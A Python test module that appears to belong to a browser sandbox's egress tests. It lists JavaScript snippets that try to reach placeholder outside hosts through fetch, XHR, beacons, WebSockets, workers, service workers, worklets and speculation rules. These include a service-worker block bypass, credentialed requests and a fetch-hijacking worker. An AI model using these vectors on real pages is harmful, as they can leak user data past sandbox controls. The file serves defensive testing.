"""Vectors that a script takes: requests from the page, from every kind of worker, and from worklets."""

from tests.attacks.egress.vectors import Vector, script, scripts

JS = "text/javascript"

REQUESTS = {
    "fetch cors": "fetch('@URL')",
    "fetch no-cors": "fetch('@URL', {mode: 'no-cors'})",
    "fetch with cookies": "fetch('@URL', {mode: 'no-cors', credentials: 'include'})",
    "fetch keepalive": "fetch('@URL', {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'})",
    "fetch preflight": "fetch('@URL', {method: 'PUT', headers: {'X-A': 'b'}})",
    "fetch manual redirect": "fetch('@TO(302)', {redirect: 'manual'}).then(r => fetch(r.url || '@URL'))",
    "fetch local space": "fetch('@URL', {mode: 'no-cors', targetAddressSpace: 'local'})",
    "fetch loopback space": "fetch('@URL', {mode: 'no-cors', targetAddressSpace: 'loopback'})",
    "fetch range": "fetch('@URL', {headers: {Range: 'bytes=0-1'}})",
    "fetch with a user": "fetch('http://user@@HOST/@TAG', {mode: 'no-cors'})",
    "fetch later": "fetchLater('@URL', {activateAfter: 0})",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', '@URL'); x.send()",
    "xhr sync": "const x = new XMLHttpRequest(); x.open('GET', '@URL', false); x.send()",
    "xhr post": "const x = new XMLHttpRequest(); x.open('POST', '@URL'); x.send('x')",
    "beacon": "navigator.sendBeacon('@URL', 'x')",
    "event source": "new EventSource('@URL')",
    "websocket": "new WebSocket('@WS')",
    "websocket tls": "new WebSocket('wss://@HOST/@TAG')",
    "websocket stream": "new WebSocketStream('@WS')",
    "https": "fetch('https://@HOST/@TAG', {mode: 'no-cors'})",
    "image": "new Image().src = '@URL'",
    "audio": "new Audio('@URL').play()",
    "import": "import('@URL')",
    "font face": "new FontFace('x', 'url(@URL)').load()",
    "xslt": "const x = new XMLHttpRequest(); x.open('GET', '@FILE(doc.xml)'); x.send();"
    "const f = document.createElement('iframe'); f.src = '@FILE(doc.xml)'; document.body.append(f)",
    "ping": "const a = document.createElement('a'); a.href = '#x'; a.ping = '@URL';"
    " document.body.append(a); a.click()",
    "cache add": "(await caches.open('x')).add(new Request('@URL', {mode: 'no-cors'}))",
    "payment manifest": "new PaymentRequest([{supportedMethods: 'https://@HOST/@TAG'}], {total: {label:"
    " 'x', amount:"
    " {currency: 'EUR', value: '1'}}}).canMakePayment()",
    "federated sign-in": "navigator.credentials.get({identity: {providers: [{configURL: 'https://@HOST/@TAG',"
    " clientId: 'x'}]}})",
    "shared storage": "sharedStorage.createWorklet('@URL')",
    "protected audience": "navigator.joinAdInterestGroup({owner: location.origin, name: 'x',"
    " biddingLogicURL: '@URL',"
    " updateURL: '@URL'}, 99)",
    "script source map": "eval('1\\n//# sourceMappingURL=@URL')",
    "direct socket": "new TCPSocket('127.0.0.1', @PORT)",
    "web transport": "new WebTransport('https://@HOST/@TAG').ready",
    "web transport pinned": "new WebTransport('https://@HOST/@TAG', {serverCertificateHashes:"
    " [{algorithm: 'sha-256', value: new Uint8Array(32)}]}).ready",
    "audio worklet": "new AudioContext().audioWorklet.addModule('@URL')",
    "paint worklet": "CSS.paintWorklet.addModule('@URL')",
    "geolocation": "navigator.geolocation.getCurrentPosition(() => fetch('@URL'))",
    "speech": "new SpeechRecognition().start()",
}
#: The same few, asked for by code that lives outside the page.
WORKING = {
    "fetch": "fetch('@URL', {mode: 'no-cors'})",
    "xhr": "if (self.XMLHttpRequest) { const x = new XMLHttpRequest(); x.open('GET', '@URL'); x.send() }",
    "websocket": "new WebSocket('@WS')",
    "event source": "new EventSource('@URL')",
    "import scripts": "importScripts('@URL')",
    "redirect": "fetch('@TO(307)', {mode: 'no-cors'})",
    "redirected import": "importScripts('@TO(302)')",
    "web transport": "new WebTransport('https://@HOST/@TAG').ready",
}
REGISTER = "navigator.serviceWorker.register('@FILE(worker.js)', {scope: '/f/@TAG/'})"
BYPASS = "ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, '@FILE(worker.js)')"
WORKERS = {
    "worker": "new Worker('@FILE(worker.js)')",
    "nested worker": "new Worker('@FILE(nest.js)')",
    "blob worker": "new Worker(URL.createObjectURL(new Blob([await (await"
    " fetch('@FILE(worker.js)')).text()])))",
    "shared worker": "new SharedWorker('@FILE(worker.js)')",
    "blocked service worker": f"await {BYPASS}",
}
ELSEWHERE = {
    "worker from there": "new Worker('@URL')",
    "module worker from there": "new Worker('@URL', {type: 'module'})",
    "worker redirected there": "new Worker('@TO(302)')",
    "module worker that imports": "new Worker('@FILE(import.js)', {type: 'module'})",
    "shared worker from there": "new SharedWorker('@URL')",
    "audio worklet that imports": "new AudioContext().audioWorklet.addModule('@FILE(import.js)')",
    "paint worklet that imports": "CSS.paintWorklet.addModule('@FILE(import.js)')",
}
#: In a context that lets service workers run, which a take's does not.
SERVICE = {
    "answers from there": (
        f"await {REGISTER}; await new Promise(d => setTimeout(d, 700));"
        "const f = document.createElement('iframe'); f.src = '@FILE(page.html)'; document.body.append(f)",
        "onfetch = e => e.respondWith(fetch('@URL', {mode: 'no-cors'}));"
        "oninstall = () => skipWaiting(); onactivate = e => e.waitUntil(clients.claim())",
    ),
    "background fetch": (
        f"const r = await {REGISTER}; await new Promise(d => setTimeout(d, 700));"
        "await r.backgroundFetch.fetch('x', ['@URL'])",
        "oninstall = () => skipWaiting()",
    ),
    "navigation preload": (
        f"const r = await {REGISTER}; await new Promise(d => setTimeout(d, 700));"
        "const f = document.createElement('iframe'); f.src = '@FILE(page.html)'; document.body.append(f)",
        "onactivate = e => e.waitUntil(registration.navigationPreload.setHeaderValue('@URL')"
        ".then(() => fetch('@URL', {mode: 'no-cors'})))",
    ),
    "from there": ("await navigator.serviceWorker.register('@TO(302)')", ""),
}
SPECULATION = {
    f"{action} {eagerness}{' ' + source if source != 'list' else ''}": (action, eagerness, source)
    for action in ("prefetch", "prerender")
    for eagerness in ("immediate", "eager")
    for source in ("list", "redirected", "cross-site")
}


def requests() -> list[Vector]:
    xml = "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='@URL'?><!DOCTYPE x SYSTEM '@URL'><x/>"
    files = {"doc.xml": ("text/xml", xml)}
    return scripts("requests of scripts", REQUESTS, files=files)


def workers() -> list[Vector]:
    found = []
    for kind, start in WORKERS.items():
        for name, code in WORKING.items():
            files = {
                "worker.js": (JS, f"try {{ {code} }} catch (e) {{}}"),
                "nest.js": (JS, "new Worker('@FILE(worker.js)')"),
            }
            found.append(script("workers", f"{kind}: {name}", start, files=files))
    files = {"import.js": (JS, "import '@URL'")}
    return [*found, *scripts("workers from elsewhere", ELSEWHERE, files=files)]


def service_workers() -> list[Vector]:
    table = {**{name: (f"await {REGISTER}", code) for name, code in WORKING.items()}, **SERVICE}
    return [
        script(
            "service workers",
            name,
            page,
            files={"worker.js": (JS, code), "page.html": ("text/html", "x")},
            top=True,
            bare=True,
        )
        for name, (page, code) in table.items()
    ]


def speculation() -> list[Vector]:
    found = []
    targets = {"list": "@URL", "redirected": "@TO(302)", "cross-site": "@EVIL/to/302/@TAG"}
    for name, (action, eagerness, source) in SPECULATION.items():
        rules = (
            f'{{"{action}": [{{"source": "list", "urls": ["{targets[source]}"], "eagerness":'
            f' "{eagerness}"}}]}}'
        )
        html = f"<script type=speculationrules>{rules}</script><a href='{targets[source]}'>x</a>"
        found.append(Vector("speculation", name, html, top=True))
    return found
